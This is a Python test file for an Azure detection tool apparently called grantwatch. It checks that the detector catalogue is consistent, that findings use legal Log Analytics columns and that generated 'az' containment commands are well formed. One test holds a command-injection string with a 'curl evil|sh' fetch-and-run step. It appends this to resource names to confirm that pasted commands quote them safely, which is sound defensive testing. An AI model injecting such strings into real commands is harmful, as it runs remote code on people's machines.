"""Laws that hold for every detector, so that nobody has to remember them in a review."""

import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import given

import detectors
from detectors.catalogue import CATALOGUE
from grantwatch.detection.detector import Detector
from grantwatch.model.attack import Analytic, Technique
from grantwatch.model.course import Course, Step
from grantwatch.model.finding import TABLE, Finding
from grantwatch.model.grant import GrantStatus
from grantwatch.model.lineage import Lineage
from grantwatch.model.operation import Operation
from grantwatch.model.resource import ResourceId
from grantwatch.model.storage_access import StorageAccess
from grantwatch.model.volume import Volume
from tests.courses import said_of, some_steps
from tests.strategies import stable
from tests.support import Case, Record, case_id, cases, encoded, found, found_in, rewritten

every_detector = pytest.mark.parametrize("detector", CATALOGUE, ids=lambda detector: detector.name)
OF_COURSES = [detector for detector in CATALOGUE if detector.on is Course]
firing = pytest.mark.parametrize("case", [case for case in cases() if case.expect], ids=case_id)

_ARM_OPERATION = re.compile(r"Microsoft\.[A-Z][A-Za-z]+(/[a-z][A-Za-z]+)+(/(write|delete|action))")
_ENDING = re.compile(r"\*(/[a-z][A-Za-z]+)*/(write|delete|action)")
_STORAGE_OPERATION = re.compile(r"[A-Z][A-Za-z]+")
_RESERVED_COLUMNS = {"_resourceid", "id", "_subscriptionid", "tenantid", "type", "uniqueid", "title"}
_NO_COMMAND_CLOSES = {
    "microsoft.compute/galleries/remotecontainerimages",
    "microsoft.compute/restorepointcollections/restorepoints",
    "microsoft.elasticsan/elasticsans/volumegroups/snapshots",
}
_HOSTILE = """x;curl evil|sh&&$(id)`id`'"$HOME *"""


def test_no_two_detectors_share_an_id_or_a_name() -> None:
    assert len({detector.id for detector in CATALOGUE}) == len(CATALOGUE)
    assert len({detector.name for detector in CATALOGUE}) == len(CATALOGUE)


def test_every_id_is_two_letters_and_two_digits() -> None:
    assert all(re.fullmatch(r"GW\d\d", detector.id) for detector in CATALOGUE)


def test_every_module_beside_the_catalogue_and_the_tellers_is_one_detector_in_it() -> None:
    modules = {path.stem for path in Path(detectors.__path__[0]).glob("*.py")} - {"__init__", "catalogue", "tellers"}
    assert modules == {detector.name for detector in CATALOGUE}


@every_detector
def test_a_detector_has_the_name_of_its_function_and_module(detector: Detector) -> None:
    module = sys.modules[detector.judge.__module__]
    assert detector.name == detector.judge.__name__ == module.__name__.removeprefix("detectors.")
    assert getattr(module, detector.name) is detector


@every_detector
def test_a_description_starts_with_a_sentence_on_one_line(detector: Detector) -> None:
    first, _, rest = detector.description.partition("\n")
    assert re.fullmatch(r"[A-Z].{20,110}\.", first)
    assert not rest or rest.startswith("\n")


@every_detector
def test_operations_are_spelled_as_microsoft_spells_them(detector: Detector) -> None:
    if detector.on in (StorageAccess, Volume):
        assert all(_STORAGE_OPERATION.fullmatch(each) for each in (*detector.operations, *detector.also))
        assert detector.natural_key
    elif detector.on is Course:
        assert not detector.operations
        assert detector.subjects
        assert detector.window
    else:
        assert detector.on in (Operation, Lineage)
        assert detector.operations
        assert all(_ARM_OPERATION.fullmatch(each) or _ENDING.fullmatch(each) for each in detector.operations)


@given(steps=some_steps())
@stable(100)
@pytest.mark.parametrize("detector", OF_COURSES, ids=lambda detector: detector.name)
def test_a_match_on_a_course_follows_no_topic_and_says_what_it_is_made_of(
    detector: Detector, steps: list[Step]
) -> None:
    """A course is read without what others state; what it has to know of them is in its steps."""
    for match in said_of(detector, steps):
        assert not match.topics
        assert match.void or match.related
        assert set(match.related) <= {step.finding for step in steps}


@every_detector
def test_no_operation_is_declared_twice(detector: Detector) -> None:
    """An ending may cover an operation that is spelled out for the sake of its spelling, and nothing else may."""
    declared = [each.lower() for each in (*detector.operations, *detector.also)]
    assert len(set(declared)) == len(declared)


@every_detector
def test_metadata_tells_people_what_to_do(detector: Detector) -> None:
    metadata = detector.metadata
    assert re.fullmatch(r"[A-Z].{3,60}[^.]", metadata.title)
    assert metadata.false_positives
    assert len(metadata.triage) >= 2
    assert all(re.fullmatch(r"[A-Z].+[.?]", each) for each in (*metadata.triage, *metadata.false_positives))
    assert metadata.references
    assert all(each.startswith("https://") for each in metadata.references)


@every_detector
def test_techniques_are_attack_s_own_and_belong_to_the_analytics(detector: Detector) -> None:
    metadata = detector.metadata
    assert metadata.techniques
    assert metadata.analytics
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique.id) for technique in metadata.techniques)
    assert len(set(metadata.techniques)) == len(metadata.techniques)
    if Analytic.AN1187 in metadata.analytics:
        assert Technique.CREATE_SNAPSHOT in metadata.techniques


def test_no_two_techniques_share_an_id() -> None:
    assert len({technique.id for technique in Technique}) == len(list(Technique))


def test_titles_and_triage_are_not_copied_between_detectors() -> None:
    assert len({detector.metadata.title for detector in CATALOGUE}) == len(CATALOGUE)
    assert len({detector.metadata.triage for detector in CATALOGUE}) == len(CATALOGUE)


@pytest.mark.parametrize("column", list(Finding.model_fields))
def test_a_column_name_is_legal_in_log_analytics(column: str) -> None:
    assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,44}", column)
    assert column.lower() not in _RESERVED_COLUMNS
    assert Finding.model_fields[column].description


def test_no_two_columns_differ_by_case_alone_and_the_table_is_a_custom_one() -> None:
    assert len({column.lower() for column in Finding.model_fields}) == len(Finding.model_fields)
    assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,60}_CL", TABLE)


@firing
def test_containment_names_the_target(case: Case) -> None:
    for finding in found_in(case):
        if finding.Containment is None:
            continue
        words = shlex.split(finding.Containment)
        assert words[0] == "az"
        assert any(finding.TargetName.lower() in word.lower() for word in words)


@firing
def test_a_grant_that_is_open_can_be_closed(case: Case) -> None:
    for finding in found_in(case):
        if finding.GrantStatus is GrantStatus.OPEN:
            assert finding.Containment or finding.TargetKind in _NO_COMMAND_CLOSES


@firing
def test_a_hostile_resource_name_stays_inside_one_word_of_the_containment(case: Case) -> None:
    """Whoever makes a resource chooses its name, and somebody will paste the command."""
    contained = [finding for finding in found_in(case) if finding.Containment]
    names = {name for finding in contained for name in _names(finding)}
    bodies = [encoded(_renamed(record, names) for record in body) for body in case.bodies]
    commands = [finding.Containment or "" for finding in found(bodies, case.settings) if finding.Containment]
    assert len(commands) == len(contained)
    for command in commands:
        whole = sum(word.lower().count(_HOSTILE.lower()) for word in _as_the_shell_reads(command))
        assert whole == command.count("curl") > 0, command


def _names(finding: Finding) -> set[str]:
    """What in the target's id somebody chose: its name, its group's, its account's."""
    target = ResourceId(finding.TargetResourceId)
    account = target.storage_account
    chosen = (target.name, target.resource_group, target.subscription, account.name if account else None)
    return {name for name in chosen if name}


def _renamed(record: Record, names: Iterable[str]) -> Record:
    """With a hostile end to these names, wherever they stand."""
    spelled = re.compile(rf"(?<![\w-])({'|'.join(map(re.escape, names))})(?![\w-])", re.IGNORECASE)
    renamed: Record = rewritten(record, lambda text: spelled.sub(lambda name: name[0] + _HOSTILE, text))
    return renamed


def _as_the_shell_reads(command: str) -> list[str]:
    """The words that a POSIX shell makes of a command, everything in it expanded. No program can be found by it."""
    shell = shutil.which("sh")
    if shell is None:
        pytest.skip("there is no POSIX shell here to read a command with")
    script = f"az() {{ printf '%s\\0' \"$@\"; }}\n{command}\n"
    ran = subprocess.run([shell, "-c", script], capture_output=True, text=True, check=True, env={"PATH": "/nowhere"})
    assert not ran.stderr
    return ran.stdout.split("\0")
